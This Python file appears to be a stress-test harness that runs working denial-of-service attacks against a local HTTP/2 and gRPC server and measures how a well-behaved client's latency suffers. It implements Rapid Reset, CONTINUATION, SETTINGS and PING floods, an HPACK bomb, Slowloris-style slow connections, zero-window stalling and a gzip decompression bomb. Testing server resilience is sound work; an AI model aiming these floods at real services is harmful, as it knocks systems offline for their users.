"""An attacker, or a neighbour of one: a process of its own, so that neither slows down the other.

    attack.py KIND PORT TLS-CA|-

It says "ready". For each line that it is told it attacks until the next one, and says what it has
done: a number. A neighbour asks for something small all the time, and then says how long that took,
in microseconds. Attackers are nice: in life they bring their own processors along.
"""

import gzip
import os
import resource
import select
import socket
import ssl
import sys
import time

import rawhttp as raw
from protobuf import pb

TLS = None


class Gone(Exception):
    pass


def connect(port, tls=True):
    connection = socket.create_connection(("127.0.0.1", port), timeout=raw.HANGS)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if TLS and tls:
        connection = TLS.wrap_socket(connection, server_hostname="localhost")
    return connection


class Flood:
    """Frames on one connection; when the server hangs up, the next one."""

    def __init__(self, port):
        self.port, self.peer = port, None

    def begin(self, peer):
        """What is sent again and again."""
        raise NotImplementedError

    def step(self):
        if self.peer is None:
            self.peer = raw.Peer(self.port, context=TLS)
            self.block = self.begin(self.peer)
        try:
            self.peer.send(self.block() if callable(self.block) else self.block)
        except OSError:
            self.peer.close()
            self.peer = None
        return 1

    def stop(self):
        if self.peer is not None:
            self.peer.close()
            self.peer = None


class RapidReset(Flood):
    def begin(self, peer):
        def block():
            out = b""
            for _ in range(50):
                stream = peer.next
                peer.next += 2
                out += raw.frame(raw.HEADERS, raw.END_HEADERS | raw.END_STREAM, stream,
                                 raw.request(b"/ping"))
                out += raw.frame(raw.RST_STREAM, 0, stream, raw.u32(8))
            return out
        return block


class Continuation(Flood):
    def begin(self, peer):
        peer.send(raw.frame(raw.HEADERS, raw.END_STREAM, 1, raw.request(b"/ping")))
        return raw.frame(raw.CONTINUATION, 0, 1, raw.literal(b"x", b"y" * 100)) * 50


class Settings(Flood):
    def begin(self, peer):
        return raw.frame(raw.SETTINGS, 0, 0, b"\0\4\0\1\0\0") * 200


class Ping(Flood):
    def begin(self, peer):
        return raw.frame(raw.PING, 0, 0, b"12345678") * 200


class Bomb(Flood):
    def begin(self, peer):
        size = 3900
        entry = b"\x40\x01a\x7f" + bytes([0x80 | (size - 127) & 0x7f, (size - 127) >> 7]) + b"x" * size

        def block():
            stream = peer.next
            peer.next += 2
            return raw.frame(raw.HEADERS, raw.END_HEADERS | raw.END_STREAM, stream,
                             raw.request(b"/ping") + entry + b"\xbe" * 4000)
        return block


class GiantHeaders(Flood):
    def begin(self, peer):
        value = b"\x7f" + bytes([0x80 | (15000 - 127) & 0x7f, (15000 - 127) >> 7]) + b"x" * 15000

        def block():
            stream = peer.next
            peer.next += 2
            return raw.frame(raw.HEADERS, raw.END_STREAM, stream,
                             raw.request(b"/ping") + b"\0\x01a" + value) + b"".join(
                raw.frame(raw.CONTINUATION, raw.END_HEADERS if i == 4 else 0, stream,
                          b"\0\x01a" + value) for i in range(5))
        return block


class Many:
    """Many connections, opened a few at a time; then each is made to do something slowly."""

    wanted = 300
    tls = True

    def __init__(self, port):
        self.port, self.open, self.at = port, [], 0

    def first(self, connection):
        pass

    def drip(self, connection):
        pass

    def step(self):
        if len(self.open) < self.wanted:
            connection = connect(self.port, self.tls)
            self.first(connection)
            self.open.append(connection)
            return 1
        self.at = (self.at + 1) % len(self.open)
        try:
            self.drip(self.open[self.at])
        except OSError:
            self.open.pop(self.at).close()
        time.sleep(0.0005)
        return 0

    def stop(self):
        for connection in self.open:
            connection.close()
        self.open = []


class SlowHeaders(Many):
    def first(self, connection):
        connection.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nX: ")

    def drip(self, connection):
        connection.sendall(b"x")


class SlowPreface(Many):
    def first(self, connection):
        connection.sendall(b"PRI * HT")


class SlowHandshake(Many):
    tls = False

    def first(self, connection):
        connection.sendall(bytes.fromhex("1603010200010001fc0303") + b"x" * 20)

    def drip(self, connection):
        connection.sendall(b"x")


class Idle(Many):
    wanted = 2000

    def first(self, connection):
        connection.sendall(raw.PREFACE + raw.frame(raw.SETTINGS, 0, 0))


class HalfClosed(Many):
    """Whoever asks and sends no more."""

    def first(self, connection):
        connection.sendall(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n")
        connection.shutdown(socket.SHUT_WR)


class Stalled(Many):
    """Readers that open no window: each wants everything, many times."""

    wanted = 30

    def first(self, connection):
        block = raw.PREFACE + raw.frame(raw.SETTINGS, 0, 0, b"\0\4" + raw.u32(0))
        for i in range(100):
            block += raw.frame(raw.HEADERS, raw.END_HEADERS | raw.END_STREAM, 2 * i + 1,
                               raw.request(b"/api/streams/large"))
        connection.sendall(block)


class StalledCalls(Stalled):
    """The same by gRPC."""

    def first(self, connection):
        name = pb((3, b"large"))
        message = pb((1, pb((1, pb((1, name), (3, b""))), (5, 4096), (8, b""), (9, pb((2, b""))))))
        block = raw.PREFACE + raw.frame(raw.SETTINGS, 0, 0, b"\0\4" + raw.u32(0))
        for i in range(100):
            block += raw.frame(raw.HEADERS, raw.END_HEADERS, 2 * i + 1, raw.request(
                b"/event_store.client.streams.Streams/Read", method=b"POST",
                content_type=b"application/grpc", te=b"trailers"))
            block += raw.frame(raw.DATA, raw.END_STREAM, 2 * i + 1,
                               b"\0" + raw.u32(len(message)) + message)
        connection.sendall(block)


def append_head(stream, extra):
    return raw.frame(raw.HEADERS, raw.END_HEADERS, stream, raw.request(
        b"/event_store.client.streams.Streams/BatchAppend", method=b"POST",
        content_type=b"application/grpc", te=b"trailers", **extra))


class HalfMessages(Many):
    """Large appends that never become whole."""

    wanted = 20

    def first(self, connection):
        connection.sendall(raw.PREFACE + raw.frame(raw.SETTINGS, 0, 0))
        connection.recv(65536)  # Its settings: windows are larger once they are acknowledged.
        block = raw.frame(raw.SETTINGS, raw.ACK, 0)
        head = b"\0" + raw.u32(30 << 20)
        piece = b"x" * 16000
        for i in range(8):
            block += append_head(2 * i + 1, {}) + raw.frame(raw.DATA, 0, 2 * i + 1, head)
            block += raw.frame(raw.DATA, 0, 2 * i + 1, piece) * 60
        connection.sendall(block)


class GzipBomb:
    """A few bytes that unzip to many, and are no request."""

    def __init__(self, port):
        self.port, self.peer = port, None
        message = gzip.compress(pb((3, b"\0" * (16 << 20))), 9)
        self.body = b"\1" + raw.u32(len(message)) + message

    def step(self):
        if self.peer is None:
            self.peer = raw.Peer(self.port, context=TLS)
        stream = self.peer.next
        self.peer.next += 2
        self.peer.send(append_head(stream, {"grpc_encoding": b"gzip"}))
        for at in range(0, len(self.body), 16000):
            last = at + 16000 >= len(self.body)
            self.peer.send(raw.frame(raw.DATA, raw.END_STREAM if last else 0, stream,
                                     self.body[at:at + 16000]))
        while (got := self.peer.read()) is not None:
            if got[2] == stream and got[1] & raw.END_STREAM:
                break
        time.sleep(0.02)
        return 1

    def stop(self):
        if self.peer is not None:
            self.peer.close()
            self.peer = None


KINDS = {
    "rapid reset": RapidReset, "continuation": Continuation, "settings": Settings, "ping": Ping,
    "hpack bomb": Bomb, "giant headers": GiantHeaders, "slow headers": SlowHeaders,
    "slow preface": SlowPreface, "slow handshake": SlowHandshake, "idle connections": Idle,
    "half-closed": HalfClosed, "stalled readers": Stalled, "stalled calls": StalledCalls, "half messages": HalfMessages,
    "gzip bomb": GzipBomb,
}


ANSWERS_MIN = 20  # Of a neighbour, in a round.


class Neighbour:
    def __init__(self, port):
        self.peer = raw.Peer(port, context=TLS)
        self.peer.send(raw.frame(raw.WINDOW_UPDATE, 0, 0, raw.u32(1 << 30)))
        self.times = []

    def step(self):
        before = time.perf_counter()
        stream = self.peer.open(b"/ping")
        if self.peer.until(raw.HEADERS, stream) is None:
            raise Gone("the server hung up on the neighbour")
        self.times.append(time.perf_counter() - before)
        time.sleep(0.0005)
        return 0

    def stop(self):
        while len(self.times) <= ANSWERS_MIN:  # A busy machine gives more time instead of fewer answers.
            self.step()
        times, self.times = self.times, []
        print(" ".join(str(round(t * 1e6)) for t in times), flush=True)


def main():
    global TLS
    kind, port, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    if ca != "-":
        TLS = ssl.create_default_context(cafile=ca)
        TLS.set_alpn_protocols(["h2"])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 8192)), hard))
    if kind != "neighbour":
        os.nice(19)
    worker = Neighbour(port) if kind == "neighbour" else KINDS[kind](port)
    print("ready", flush=True)
    done = 0
    while sys.stdin.readline():
        while not select.select([sys.stdin], [], [], 0)[0]:
            done += worker.step()
        sys.stdin.readline()
        worker.stop()
        if kind != "neighbour":
            print(done, flush=True)


if __name__ == "__main__":
    main()
